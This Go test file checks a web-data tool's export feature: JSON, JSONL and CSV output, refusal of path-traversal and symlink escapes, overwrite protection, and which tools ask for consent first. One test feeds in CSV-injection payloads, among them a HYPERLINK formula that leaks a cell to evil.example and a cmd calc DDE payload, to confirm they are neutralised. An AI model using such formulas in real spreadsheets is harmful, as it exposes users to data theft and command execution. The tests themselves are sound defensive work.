package webdata

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var exportRecords = []map[string]any{
	{"name": "otter", "price": 19.9, "tags": []any{"plush", "soft"}, "id": json.Number("9007199254740993")},
	{"name": "beaver, \"large\"", "price": 25, "stock": nil},
}

func TestExportFormats(t *testing.T) {
	cfg := loopbackOnly()
	cfg.ExportDir = filepath.Join(t.TempDir(), "exports")
	ts := newTools(t, cfg)
	ctx := context.Background()

	read := func(env *envelope) (ExportResult, []byte) {
		t.Helper()
		if env.Status != StatusSuccess {
			t.Fatalf("export failed: %+v", env.Errors)
		}
		r := decode[ExportResult](t, env)
		data, err := os.ReadFile(r.Path)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(r.Path, cfg.ExportDir+string(filepath.Separator)) || r.Bytes != int64(len(data)) || r.Records != 2 {
			t.Errorf("result %+v does not describe the file (%d bytes in %s)", r, len(data), cfg.ExportDir)
		}
		return r, data
	}

	_, env := ts.call(t, ctx, NameExportData, map[string]any{"records": exportRecords, "filename": "items.json"})
	r, data := read(env)
	var back []map[string]any
	if err := json.Unmarshal(data, &back); err != nil || len(back) != 2 || back[0]["name"] != "otter" || !strings.Contains(string(data), "9007199254740993") {
		t.Errorf("JSON export %s: %v", data, err)
	}
	if r.Format != "json" {
		t.Errorf("format %s", r.Format)
	}

	_, env = ts.call(t, ctx, NameExportData, map[string]any{"records": exportRecords, "filename": "items.jsonl"})
	_, data = read(env)
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	if len(lines) != 2 || !json.Valid([]byte(lines[0])) || !json.Valid([]byte(lines[1])) {
		t.Errorf("JSONL export:\n%s", data)
	}

	_, env = ts.call(t, ctx, NameExportData, map[string]any{"records": exportRecords, "format": "csv", "filename": "sub/items"})
	r, data = read(env)
	if !strings.HasSuffix(r.Path, filepath.Join("sub", "items.csv")) {
		t.Errorf("csv path %s", r.Path)
	}
	rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"id", "name", "price", "stock", "tags"},
		{"9007199254740993", "otter", "19.9", "", `["plush","soft"]`},
		{"", `beaver, "large"`, "25", "", ""},
	}
	if !equalRows(rows, want) {
		t.Errorf("CSV rows = %q, want %q", rows, want)
	}

	_, env = ts.call(t, ctx, NameExportData, map[string]any{"records": exportRecords, "format": "csv", "filename": "cols.csv", "columns": []string{"price", "name"}})
	_, data = read(env)
	if !strings.HasPrefix(string(data), "price,name\n19.9,otter\n") {
		t.Errorf("CSV with columns:\n%s", data)
	}

	_, env = ts.call(t, ctx, NameExportData, map[string]any{"records": exportRecords})
	r, _ = read(env)
	if !strings.HasPrefix(filepath.Base(r.Path), "export-") || r.Format != "json" {
		t.Errorf("default name: %+v", r)
	}
}

// Cells a spreadsheet would run as formulas are written as text (OWASP CSV
// injection); numbers, including negative ones, stay numbers.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	cfg := loopbackOnly()
	cfg.ExportDir = filepath.Join(t.TempDir(), "exports")
	ts := newTools(t, cfg)
	records := []map[string]any{
		{"a": "=HYPERLINK(\"https://evil.example/?\"&B2,\"click\")", "b": "+1+1", "c": "-2+3+cmd|' /C calc'!A0", "d": "@SUM(1,1)"},
		{"a": "\t=1+1", "b": "\r=1+1", "c": json.Number("-5"), "d": "plain = text"},
	}
	_, env := ts.call(t, context.Background(), NameExportData, map[string]any{
		"records": records, "filename": "formulas.csv", "columns": []string{"a", "b", "c", "d", "=cmd"},
	})
	if env.Status != StatusSuccess {
		t.Fatalf("export: %+v", env.Errors)
	}
	data, err := os.ReadFile(decode[ExportResult](t, env).Path)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"a", "b", "c", "d", "'=cmd"},
		{`'=HYPERLINK("https://evil.example/?"&B2,"click")`, "'+1+1", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1,1)", ""},
		{"'\t=1+1", "'\r=1+1", "-5", "plain = text", ""},
	}
	if !equalRows(rows, want) {
		t.Errorf("CSV rows = %q, want %q", rows, want)
	}
}

func equalRows(a, b [][]string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if strings.Join(a[i], "\x00") != strings.Join(b[i], "\x00") {
			return false
		}
	}
	return true
}

func TestExportRefusesEscapesAndOverwrites(t *testing.T) {
	base := t.TempDir()
	cfg := loopbackOnly()
	cfg.ExportDir = filepath.Join(base, "exports")
	ts := newTools(t, cfg)
	ctx := context.Background()
	recs := []map[string]any{{"a": 1}}

	for _, name := range []string{"../outside.json", "/tmp/abs.json", "sub/../../outside.json", ".."} {
		res, env := ts.call(t, ctx, NameExportData, map[string]any{"records": recs, "filename": name})
		if !res.IsError || !env.hasCode(CodeInvalidParams) || env.Errors[0].Field != "filename" {
			t.Errorf("filename %q: %+v, want INVALID_PARAMS on filename", name, env.Errors)
		}
	}
	// A symbolic link inside the directory that points out of it.
	if err := os.MkdirAll(cfg.ExportDir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(base, filepath.Join(cfg.ExportDir, "link")); err != nil {
		t.Fatal(err)
	}
	res, env := ts.call(t, ctx, NameExportData, map[string]any{"records": recs, "filename": "link/escaped.json"})
	if !res.IsError || !env.hasCode(CodeForbidden) {
		t.Errorf("symlink escape: %+v, want FORBIDDEN", env.Errors)
	}
	entries, _ := os.ReadDir(base)
	for _, e := range entries {
		if e.Name() != "exports" {
			t.Errorf("a file was written outside the export directory: %s", e.Name())
		}
	}

	_, env = ts.call(t, ctx, NameExportData, map[string]any{"records": recs, "filename": "once.json"})
	if env.Status != StatusSuccess {
		t.Fatalf("first write: %+v", env.Errors)
	}
	res, env = ts.call(t, ctx, NameExportData, map[string]any{"records": []map[string]any{{"a": 2}}, "filename": "once.json"})
	if !res.IsError || !env.hasCode(CodeInvalidParams) || !strings.Contains(env.Errors[0].Suggestion, "overwrite") {
		t.Errorf("second write without overwrite: %+v", env.Errors)
	}
	if data, _ := os.ReadFile(filepath.Join(cfg.ExportDir, "once.json")); !strings.Contains(string(data), `"a": 1`) {
		t.Errorf("the existing file was changed: %s", data)
	}
	_, env = ts.call(t, ctx, NameExportData, map[string]any{"records": []map[string]any{{"a": 2}}, "filename": "once.json", "overwrite": true})
	if r := decode[ExportResult](t, env); env.Status != StatusSuccess || !r.Replace {
		t.Errorf("overwrite: %+v %+v", r, env.Errors)
	}
	if data, _ := os.ReadFile(filepath.Join(cfg.ExportDir, "once.json")); !strings.Contains(string(data), `"a": 2`) {
		t.Errorf("overwrite did not replace the file: %s", data)
	}
	entries, _ = os.ReadDir(cfg.ExportDir)
	for _, e := range entries {
		if strings.Contains(e.Name(), ".tmp-") {
			t.Errorf("temporary file left behind: %s", e.Name())
		}
	}
}

func TestToolAnnotations(t *testing.T) {
	ts := newTools(t, loopbackOnly())
	// asks: whether otter's agent asks before running the tool. Every tool
	// that fetches a URL the model chose asks, read-only or not, since the
	// URL can carry data out (analyze_site too, though seed 000 called it
	// "basic"); export_data asks as it writes files, and overwrite: true
	// replaces one (destructive).
	for name, want := range map[string]struct{ readOnly, openWorld, destructive, asks bool }{
		NameScrapePage:  {true, true, false, true},
		NameAnalyzeSite: {true, true, false, true},
		NameGetStatus:   {true, false, false, false},
		NameListPresets: {true, false, false, false},
		NameExportData:  {false, false, true, true},
		NameScrapeAPI:   {false, true, true, true},
	} {
		info := ts[name].Info()
		a := info.Annotations
		if a == nil || a.ReadOnlyHint != want.readOnly || a.OpenWorldHint == nil || *a.OpenWorldHint != want.openWorld || info.Destructive() != want.destructive {
			t.Errorf("%s annotations = %+v, want %+v", name, a, want)
		}
		if asks, why := info.NeedsConsent(); asks != want.asks {
			t.Errorf("%s asks before running = %v (%q), want %v", name, asks, why, want.asks)
		}
		var schema map[string]any
		if err := json.Unmarshal(info.InputSchema, &schema); err != nil || schema["type"] != "object" {
			t.Errorf("%s input schema: %v", name, err)
		}
		if info.Description == "" || info.Server != "" {
			t.Errorf("%s info = %+v", name, info)
		}
	}
	if len(ts) != 6 {
		t.Errorf("%d tools, want 6", len(ts))
	}
}
